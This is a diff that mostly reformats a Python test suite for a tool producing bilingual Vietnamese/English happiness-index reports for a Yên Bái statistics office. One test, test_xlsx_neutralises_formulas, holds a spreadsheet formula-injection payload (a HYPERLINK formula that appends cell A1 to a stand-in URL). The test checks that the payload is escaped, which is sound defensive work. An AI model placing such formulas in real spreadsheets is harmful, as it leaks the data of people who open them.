@@ -18,8 +18,13 @@ from happiness_index.report.annual import write_report_files
 from happiness_index.report.catalog import LANGUAGES, catalog
 from happiness_index.report.numbers import fmt_date, fmt_int, fmt_number, parse_number
 
-CONFIG = {"issuing_body": "Chi cục Thống kê thành phố Yên Bái", "document_number": "15/BC-CCTK", "place": "Yên Bái",
-          "signer_title": "Chi cục trưởng", "date": "2026-12-07"}
+CONFIG = {
+    "issuing_body": "Chi cục Thống kê thành phố Yên Bái",
+    "document_number": "15/BC-CCTK",
+    "place": "Yên Bái",
+    "signer_title": "Chi cục trưởng",
+    "date": "2026-12-07",
+}
 
 
 @pytest.fixture(scope="module")
@@ -56,7 +61,7 @@ def test_babel_formats():
     assert fmt_number(76.93060, "en") == "76.93" and fmt_int(3400, "en") == "3,400"
     assert fmt_number(3.6856, "vi", sign=True) == "+3,69" and fmt_number(-5.33, "vi", sign=True) == "-5,33"
     assert fmt_date(dt.date(2026, 12, 7), "vi") == "ngày 07 tháng 12 năm 2026"
-    assert fmt_date(dt.date(2027, 2, 5), "vi") == "ngày 05 tháng 02 năm 2027"    # months 1-2 take a zero
+    assert fmt_date(dt.date(2027, 2, 5), "vi") == "ngày 05 tháng 02 năm 2027"  # months 1-2 take a zero
     assert fmt_date(dt.date(2027, 3, 15), "vi") == "ngày 15 tháng 3 năm 2027"
     assert fmt_date(dt.date(2026, 12, 7), "en") == "7 December 2026"
     assert parse_number("3.400", "vi") == 3400 and parse_number("+76,93", "vi") == 76.93
@@ -71,7 +76,7 @@ def test_every_catalog_entry_is_translated_with_the_same_placeholders():
     for key in vi.messages:
         assert vi.messages[key].strip() and en.messages[key].strip(), key
         assert vi.placeholders(key) == en.placeholders(key), key
-        list(string.Formatter().parse(vi.messages[key]))          # well-formed braces
+        list(string.Formatter().parse(vi.messages[key]))  # well-formed braces
     leaks = {k: ascii_sentences(re.sub(r"\{[^}]*\}", "", v)) for k, v in vi.messages.items()}
     assert not {k: v for k, v in leaks.items() if v}, "English sentences in the Vietnamese catalog"
     assert not [k for k, v in en.messages.items() if VI_LETTERS.search(v)], "Vietnamese in the English catalog"
@@ -97,14 +102,21 @@ def test_docx_header_block_follows_decree_30(configured):
     d = _docx(configured["vi"])
     sec = d.sections[0]
     assert abs(sec.page_width - Cm(21)) < Cm(0.05) and abs(sec.page_height - Cm(29.7)) < Cm(0.05)
-    assert (round(sec.top_margin.cm, 1), round(sec.bottom_margin.cm, 1), round(sec.left_margin.cm, 1),
-            round(sec.right_margin.cm, 1)) == (2.0, 2.0, 3.0, 1.5)
+    assert (
+        round(sec.top_margin.cm, 1),
+        round(sec.bottom_margin.cm, 1),
+        round(sec.left_margin.cm, 1),
+        round(sec.right_margin.cm, 1),
+    ) == (2.0, 2.0, 3.0, 1.5)
     head = d.tables[0]
     left = [p.text for p in head.cell(0, 0).paragraphs if p.text]
     right = [p.text for p in head.cell(0, 1).paragraphs if p.text]
     assert left == ["CỤC THỐNG KÊ TỈNH YÊN BÁI", "CHI CỤC THỐNG KÊ THÀNH PHỐ YÊN BÁI", "Số: 15/BC-CCTK"]
-    assert right == ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
-                     "Yên Bái, ngày 07 tháng 12 năm 2026"]
+    assert right == [
+        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
+        "Độc lập - Tự do - Hạnh phúc",
+        "Yên Bái, ngày 07 tháng 12 năm 2026",
+    ]
     runs = {p.text: p.runs[0] for c in head.rows[0].cells for p in c.paragraphs if p.text}
     assert runs["CHI CỤC THỐNG KÊ THÀNH PHỐ YÊN BÁI"].bold and runs["Độc lập - Tự do - Hạnh phúc"].bold
     assert runs["Yên Bái, ngày 07 tháng 12 năm 2026"].italic
@@ -132,11 +144,14 @@ def test_docx_english_version_has_the_same_structure(configured, folders):
     assert right == ["SOCIALIST REPUBLIC OF VIET NAM", "Independence - Freedom - Happiness", "Yên Bái, 7 December 2026"]
     assert "REPORT" in [p.text for p in d.paragraphs]
     assert len(d.tables) == len(_docx(configured["vi"]).tables)
-    default = _docx(folders["en"])              # the defaults of the catalog, no configuration
+    default = _docx(folders["en"])  # the defaults of the catalog, no configuration
     left = [p.text for p in default.tables[0].cell(0, 0).paragraphs if p.text]
     assert left == ["YEN BAI PROVINCIAL STATISTICS OFFICE", "YEN BAI CITY STATISTICS BRANCH", "No.: …/BC-CCTK"]
     assert [p.text for p in default.tables[-1].cell(0, 1).paragraphs if p.text] == [
-        "HEAD OF BRANCH", "(Signature and seal)", "[Full name]"]
+        "HEAD OF BRANCH",
+        "(Signature and seal)",
+        "[Full name]",
+    ]
 
 
 def _flat_numbers(obj, out):
@@ -158,17 +173,17 @@ def test_every_number_in_the_docx_tables_is_in_results_json(folders):
     number = re.compile(r"[+-]?\d+(?:\.\d{3})*(?:,\d+)?")
     d = _docx(folders["vi"])
     checked = 0
-    for table in d.tables[1:-1]:                 # the header block and signature hold no statistics
+    for table in d.tables[1:-1]:  # the header block and signature hold no statistics
         for row in table.rows[1:]:
-            for cell in row.cells[1:]:           # the first cell names the row (commune, item)
-                if " = " in cell.text:            # a characteristic's category ("age_group = 35-59")
+            for cell in row.cells[1:]:  # the first cell names the row (commune, item)
+                if " = " in cell.text:  # a characteristic's category ("age_group = 35-59")
                     continue
                 for tok in number.findall(cell.text):
                     if re.fullmatch(r"20\d\d", tok):
-                        continue                  # a year
+                        continue  # a year
                     x = parse_number(tok, "vi")
                     decimals = len(tok.split(",")[1]) if "," in tok else 0
-                    tol = 0.5 * 10 ** -decimals + 1e-9
+                    tol = 0.5 * 10**-decimals + 1e-9
                     hits = np.abs(known - x) <= tol
                     hits |= np.abs(100 * known - x) <= tol  # shares shown in percent
                     assert hits.any(), (tok, cell.text)
@@ -191,8 +206,11 @@ def test_every_number_in_the_docx_tables_is_in_results_json(folders):
 
 def test_docx_commune_table_has_names_and_publishable_flag(folders):
     d = _docx(folders["vi"])
-    tables = [t for t in d.tables if t.rows[0].cells[0].text == "Xã / phường" and
-              t.rows[0].cells[-1].text == "Đủ tin cậy để công bố"]
+    tables = [
+        t
+        for t in d.tables
+        if t.rows[0].cells[0].text == "Xã / phường" and t.rows[0].cells[-1].text == "Đủ tin cậy để công bố"
+    ]
     assert len(tables) == 1
     names = {r.cells[0].text for r in tables[0].rows[1:]}
     assert "Nguyễn Thái Học" in names and len(names) == 17
@@ -202,7 +220,9 @@ def test_outputs_are_reproducible(results, folders, tmp_path):
     a, b = folders["vi"], tmp_path
     write_report_files(results, b, "vi")
     for name in ("tables.xlsx", "report.docx", "report.html", "report.md"):
-        assert hashlib.sha256((a / name).read_bytes()).digest() == hashlib.sha256((b / name).read_bytes()).digest(), name
+        assert hashlib.sha256((a / name).read_bytes()).digest() == hashlib.sha256((b / name).read_bytes()).digest(), (
+            name
+        )
 
 
 # ----------------------------------------------------------------------------- HTML
@@ -232,11 +252,20 @@ def test_xlsx_is_formatted(folders):
     from openpyxl import load_workbook
 
     wb = load_workbook(folders["vi"] / "tables.xlsx")
-    assert wb.sheetnames == ["Chỉ số", "Thành phần", "Xã phường", "Thay đổi theo xã", "Mục tiêu", "Yếu tố", "Địa bàn nhỏ",
-                             "Phân bố", "Ghi chú"]  # run --example: drivers, small areas, distributions
+    assert wb.sheetnames == [
+        "Chỉ số",
+        "Thành phần",
+        "Xã phường",
+        "Thay đổi theo xã",
+        "Mục tiêu",
+        "Yếu tố",
+        "Địa bàn nhỏ",
+        "Phân bố",
+        "Ghi chú",
+    ]  # run --example: drivers, small areas, distributions
     ws = wb["Xã phường"]
     head = [c.value for c in ws[1]]
-    assert head[:2] == ["Xã / phường", "Ước lượng"] and "Đủ tin cậy để công bố" in head   # no codes: no code column
+    assert head[:2] == ["Xã / phường", "Ước lượng"] and "Đủ tin cậy để công bố" in head  # no codes: no code column
     assert ws.freeze_panes == "A2" and ws["B1"].font.bold
     assert ws["B2"].number_format == "0.00" and isinstance(ws["B2"].value, float)
     assert ws.cell(row=2, column=head.index("Sai số chuẩn tương đối") + 1).number_format == "0.0%"
@@ -246,7 +275,7 @@ def test_xlsx_is_formatted(folders):
     assert any(str(n).startswith("Nguồn:") for n in notes) and any("Phụ lục" in str(n) for n in notes)
     en = load_workbook(folders["en"] / "tables.xlsx")
     assert en.sheetnames[2] == "Communes" and en["Communes"]["B1"].value == "Estimate"
-    assert not any(str(n).startswith("'") for n in notes)                   # bullets, not "-" (no formula guard)
+    assert not any(str(n).startswith("'") for n in notes)  # bullets, not "-" (no formula guard)
 
 
 def test_xlsx_neutralises_formulas(results, tmp_path):
@@ -261,9 +290,9 @@ def test_xlsx_neutralises_formulas(results, tmp_path):
     write_tables_xlsx(evil, tmp_path / "tables.xlsx", "vi")
     ws = load_workbook(tmp_path / "tables.xlsx")["Xã phường"]
     values = [c.value for c in ws["A"]]
-    assert "'=HYPERLINK(\"http://x\"&A1,\"click\")" in values and not any(str(v).startswith("=") for v in values)
+    assert '\'=HYPERLINK("http://x"&A1,"click")' in values and not any(str(v).startswith("=") for v in values)
     ws2 = load_workbook(tmp_path / "tables.xlsx")["Thay đổi theo xã"]
-    assert all(isinstance(c.value, float) or c.value is None for c in ws2["D"][1:])   # negative changes stay numbers
+    assert all(isinstance(c.value, float) or c.value is None for c in ws2["D"][1:])  # negative changes stay numbers
 
 
 def test_bundled_example_outputs_hold_no_foreign_language(folders, results):
@@ -299,6 +328,6 @@ def test_control_characters_and_undefined_estimates_are_written(results, tmp_pat
     assert "Âu\ufffd Lâu" in names
     row = names.index(r["communes"][1]["name"]) + 1
     col = [c.value for c in ws[1]].index("Ước lượng") + 1
-    assert ws.cell(row=row, column=col).value is None                                 # no estimate: an empty cell
+    assert ws.cell(row=row, column=col).value is None  # no estimate: an empty cell
     md = (tmp_path / "report.md").read_text(encoding="utf-8")
     assert f"| {r['communes'][1]['name']} | — | — | — |" in md and "không: chỉ số không xác định" in md
